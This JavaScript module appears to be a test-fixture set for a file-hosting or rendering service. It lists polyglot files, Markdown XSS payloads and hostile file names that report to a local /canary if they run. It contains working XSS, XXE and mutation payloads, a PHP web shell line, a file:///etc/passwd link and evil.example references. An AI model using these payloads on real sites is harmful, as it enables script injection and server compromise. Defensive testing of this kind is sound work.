// Kinds of files that a browser, or a program that guesses, would run. Each calls for /canary if anything of it runs or is
// shown as markup.
import { gzipSync } from "node:zlib";

const BASE64 = (text) => Buffer.from(text, "base64");
const JS = "try{fetch('/canary?js')}catch(e){}try{top.xss=1;self.xss=1}catch(e){}";
const HTML = `<!doctype html><html><head><meta http-equiv="refresh" content="0;url=/canary?refresh"></head><body><script>${JS}</script><img src="/canary?img"><form action="/canary?form"><input autofocus onfocus="${JS}"></form></body></html>`;
const SVG = `<svg xmlns="http://www.w3.org/2000/svg" onload="${JS}"><script>${JS}</script><foreignObject><body xmlns="http://www.w3.org/1999/xhtml"><img src="/canary?svg" onerror="${JS}"/></body></foreignObject></svg>`;
const XHTML = `<html xmlns="http://www.w3.org/1999/xhtml"><body><script>${JS}</script><img src="/canary?xhtml"/></body></html>`;
const XSLT = `<xsl:stylesheet version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform"><xsl:template match="/">${XHTML}</xsl:template></xsl:stylesheet>`;
const utf16 = (text, { swap = false, bom = true } = {}) => {
  const whole = Buffer.from(`${bom ? "\ufeff" : ""}${text}`, "utf16le");
  return swap ? whole.swap16() : whole;
};
const PIXEL = BASE64("iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==");
const WASM = BASE64("AGFzbQEAAAABBAFgAAACDwEFcHJvYmUGY2FuYXJ5AAAIAQA=");
const PDF = `%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R/OpenAction<</S/JavaScript/JS(app.alert(1);this.submitForm('/canary?pdf'))>>>>endobj\n2 0 obj<</Type/Pages/Count 0/Kids[]>>endobj\ntrailer<</Root 1 0 R>>\n`;
/** A chunk of PNG without a sum: readers skip it, and sniffers see what it holds. */
const withText = (text) => Buffer.concat([PIXEL.subarray(0, 33), Buffer.from(`\0\0\0\0tEXt${text}`), PIXEL.subarray(33)]);

/** `[kind, name of the file, bytes]` */
export const FILES = [
  ["HTML", "page.html", HTML],
  ["HTML under a name without an end", "page", HTML],
  ["XHTML", "page.xhtml", XHTML],
  ["SVG with a script", "image.svg", SVG],
  ["SVG under the name of a PNG", "svg.png", SVG],
  ["HTML under the name of a PNG", "html.png", HTML],
  ["HTML under the name of a text", "html.txt", HTML],
  ["HTML under the name of a Markdown text", "html.md", HTML],
  ["HTML under the name of a video", "html.mp4", HTML],
  ["HTML under the name of an icon", "favicon.ico", HTML],
  ["HTML under the name of a log in two ends", "html.html.log", HTML],
  ["XML with an XSLT of the same place", "data.xml", `<?xml version="1.0"?><?xml-stylesheet type="text/xsl" href="style.xsl"?><a/>`],
  ["an XSLT", "style.xsl", XSLT],
  ["XML that is its own XSLT", "own.xml", `<?xml version="1.0"?><?xml-stylesheet type="text/xsl" href="#s"?><!DOCTYPE a [<!ATTLIST xsl:stylesheet id ID #IMPLIED>]>${XSLT.replace("<xsl:stylesheet", '<xsl:stylesheet id="s"')}`],
  ["XML with elements of XHTML", "x.xml", `<?xml version="1.0"?><r>${XHTML}</r>`],
  ["XML with an external entity", "xxe.xml", `<?xml version="1.0"?><!DOCTYPE a [<!ENTITY e SYSTEM "/canary?xxe">]><a>&e;</a>`],
  ["a feed", "feed.rss", `<?xml version="1.0"?><rss><channel><title>${HTML.replace(/</g, "&lt;")}</title>${XHTML}</channel></rss>`],
  ["PDF with a script", "doc.pdf", PDF],
  ["GIF and JavaScript", "both.gif", `GIF89a=1;${JS}//`],
  ["GIF and JavaScript, named as a script", "gif.js", `GIF89a=1;${JS}//`],
  ["BMP and JavaScript", "both.bmp", Buffer.concat([Buffer.from("BM=1;"), Buffer.from(JS)])],
  ["PNG and HTML", "both.png", withText(HTML)],
  ["PNG and PHP", "shell.php.png", withText("<?php system($_GET[0]); ?>")],
  ["PDF and HTML", "both.pdf", `${PDF}${HTML}`],
  ["JPEG and HTML", "both.jpg", Buffer.concat([BASE64("/9j/4AAQSkZJRgABAQEASABIAAD//gCA"), Buffer.from(HTML), BASE64("/9k=")])],
  ["WebP and HTML", "both.webp", Buffer.concat([Buffer.from("RIFF\x20\0\0\0WEBPVP8 "), Buffer.from(HTML)])],
  ["zip and HTML", "both.zip", Buffer.concat([Buffer.from(HTML), BASE64("UEsFBgAAAAAAAAAAAAAAAAAAAAAAAA==")])],
  ["WAV and JavaScript", "both.wav", `RIFF=1;/*WAVE*/${JS}`],
  ["HTML in UTF-7", "utf7.txt", "+ADw-script+AD4-fetch(+ACc-/canary?utf7+ACc-)+ADw-/script+AD4-"],
  ["HTML in UTF-16 with a mark", "utf16.txt", utf16(HTML)],
  ["HTML in UTF-16 without a mark", "utf16be.txt", utf16(HTML, { swap: true, bom: false })],
  ["HTML in UTF-8 with a mark", "bom.txt", `\ufeff${HTML}`],
  ["HTML in ISO-2022-JP", "jp.txt", `\x1b$B\x1b(J${HTML}`],
  ["HTML that names another charset", "charset.txt", `<meta charset="x-user-defined">${HTML}`],
  ["HTML after spaces", "spaces.txt", `${"\n \t".repeat(300)}${HTML}`],
  ["HTML after NUL", "nul.txt", `\0\0\0\0${HTML}`],
  ["HTML after a comment of 1 MB", "long.txt", `<!--${"a".repeat(1 << 20)}-->${HTML}`],
  ["HTML in gzip", "page.html.gz", gzipSync(HTML)],
  ["a script", "plain.js", JS],
  ["a module", "module.mjs", `${JS};export default 1`],
  ["a script with the mark of an HTML comment", "comment.js", `<!--\n${JS}\n//-->`],
  ["a service worker", "sw.js", `${JS};addEventListener("fetch",(e)=>e.respondWith(new Response("canary")))`],
  ["JSON that is a script", "data.json", `[1,(${JS.replace(/;/g, ",").replace(/try|catch\(e\)|[{}]/g, "")}1)]`],
  ["an import map", "map.importmap", `{"imports":{"a":"/canary?map"}}`],
  ["speculation rules", "rules.json", `{"prefetch":[{"urls":["/canary?rules"]}],"prerender":[{"urls":["/canary?rules"]}]}`],
  ["a style sheet", "style.css", `@import "/canary?css";body{background:url(/canary?css)!important;color:rgb(1,2,3)!important}`],
  ["a style sheet in a text", "css.txt", `{}body{background:url(/canary?css)!important;color:rgb(1,2,3)!important}`],
  ["WebAssembly", "code.wasm", WASM],
  ["a font", "font.woff2", Buffer.concat([Buffer.from("wOF2\0\x01\0\0"), Buffer.alloc(64)])],
  ["a manifest of an application", "manifest.json", `{"start_url":"/canary?manifest","icons":[{"src":"/canary?icon","sizes":"64x64"}]}`],
  ["a manifest of an offline cache", "site.appcache", "CACHE MANIFEST\n/canary?cache\nFALLBACK:\n/ /canary?cache\n"],
  ["robots.txt", "robots.txt", "User-agent: *\nDisallow: /canary\n"],
  ["a page in a letter", "page.mht", `MIME-Version: 1.0\r\nContent-Type: multipart/related;boundary=b\r\n\r\n--b\r\nContent-Type: text/html\r\n\r\n${HTML}\r\n--b--`],
  ["parts that replace one another", "parts.txt", `--b\r\nContent-Type: text/html\r\n\r\n${HTML}\r\n--b--`],
  ["an answer in an answer", "answer.txt", `HTTP/1.1 200 OK\r\nContent-Type: text/html\r\n\r\n${HTML}`],
  ["a signed exchange", "page.sxg", `sxg1-b3\0\0\0${HTML}`],
  ["Flash", "movie.swf", `CWS\x07${JS}`],
  ["an application of HTML", "page.hta", HTML],
  ["subtitles", "text.vtt", `WEBVTT\n\n00:00.000 --> 10:00.000\n<c onload="${JS}">${HTML}</c>\n`],
  ["a stream of events", "events.txt", `data: ${HTML}\n\n`],
  ["a source map", "mapped.js", `${JS}\n//# sourceMappingURL=/canary?sourcemap`],
];

/** Markdown that was known to run somewhere, by kind. */
export const READMES = [
  ["scripts", [`<script>${JS}</script>`, `<script src=/canary?readme></script>`, `<ScRiPt >${JS}</sCrIpT>`, `<scr<script>ipt>${JS}</scr</script>ipt>`]],
  ["handlers", [`<img src=x onerror="${JS}">`, `<svg/onload=xss=1>`, `<details open ontoggle=xss=1>`, `<body onload=xss=1>`, `<a href=# onclick=xss=1 autofocus onfocus=xss=1>a</a>`]],
  ["links to scripts", ["[a](javascript:xss=1)", "[a](JaVaScRiPt:xss=1)", "[a](java\tscript:xss=1)", "[a](&#x6A;avascript:xss=1)", "[a](\u0001javascript:xss=1)", "[a](vbscript:xss)", "<javascript:xss=1>", "[a](javascript&colon;xss=1)"]],
  ["links to data", ["[a](data:text/html,<script>xss=1</script>)", "![a](data:image/svg+xml,<svg onload=xss=1>)", "[a](blob:x)", "[a](file:///etc/passwd)", "[a](about:blank)"]],
  ["references", ["[a][x]\n\n[x]: javascript:xss=1 \"t\"", "[a][y]\n\n[y]: <javascript:xss=1>", "[x]: /a \"<img src=x onerror=xss=1>\"\n[x]"]],
  ["titles and alternative texts", ["![a\" onerror=\"xss=1](x)", "[a](x \"\\\" onmouseover=\\\"xss=1\")", "![<img src=x onerror=xss=1>](x)"]],
  ["code", ["```<img src=x onerror=xss=1>\na\n```", "```js\" onload=\"xss=1\na\n```", "`<img src=x onerror=xss=1>`", "    <script>xss=1</script>"]],
  ["names that the page uses", [`<a id="page" name="getElementById">a</a>`, `<form id="document"><input name="location"></form>`, `<img name="ran">`]],
  ["styles and frames", ["<style>@import '/canary?style'</style>", "<link rel=stylesheet href=/canary?link>", "<iframe srcdoc='<script>xss=1</script>'></iframe>", "<base href=//evil.example/>", "<meta http-equiv=refresh content='0;/canary?meta'>", "<object data=/canary?object></object>"]],
  ["mutation", ["<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=xss=1&gt;\">", "<svg></p><style><a id=\"</style><img src=1 onerror=xss=1>\">", "<noscript><p title=\"</noscript><img src=x onerror=xss=1>\">", "<template><script>xss=1</script></template>"]],
  ["tables, footnotes and tasks", ["|<img src=x onerror=xss=1>|\n|-|\n|[a](javascript:xss=1)|", "a[^1]\n\n[^1]: <img src=x onerror=xss=1>", "- [ ] <img src=x onerror=xss=1>", "~~<svg onload=xss=1>~~"]],
  ["pictures of others", ["![a](//evil.example/a.png)", "![a](https://evil.example/a.png)", "<img src=https://evil.example/a.png>", "<picture><source srcset=https://evil.example/a.png></picture>"]],
];

/** Names of files, directories, branches and the like. */
export const NAMES = [
  ["markup in a name", "<img src=x onerror=xss=1>"],
  ["a script in a name", "<script>xss=1<\u2215script>"],
  ["quotes in a name", "a\"b'c`d.html"],
  ["another header's parameter in a name", "\"; filename=evil.html; x=\".txt"],
  ["line ends in a name", "a\r\nContent-Type: text\u2215html\r\n\r\nb.txt"],
  ["a right-to-left mark in a name", "invoice\u202egnp.html"],
  ["an address in a name", "javascript:xss=1"],
  ["escapes in a name", "%2e%2e%2fa%00%22.html"],
  ["backslashes in a name", "..\\..\\a.html"],
  ["spaces and dots at the ends of a name", " .a.html. "],
  ["a dash before a name", "--output=a.html"],
  ["letters beyond ASCII in a name", "žluťoučký-\u{1f600}-\ufeff.html"],
  ["bytes that are no UTF-8 in a name", Buffer.from([0xff, 0x3c, 0x62, 0x3e, 0xc0, 0xaf, 0x2e, 0x68, 0x74, 0x6d])],
  ["control characters in a name", "a\x01\x1b[31m\x7f.html"],
  ["a name with a question and a fragment", "a?b=<b>#c.html"],
  ["a template in a name", "{{constructor}}${xss=1}.html"],
];
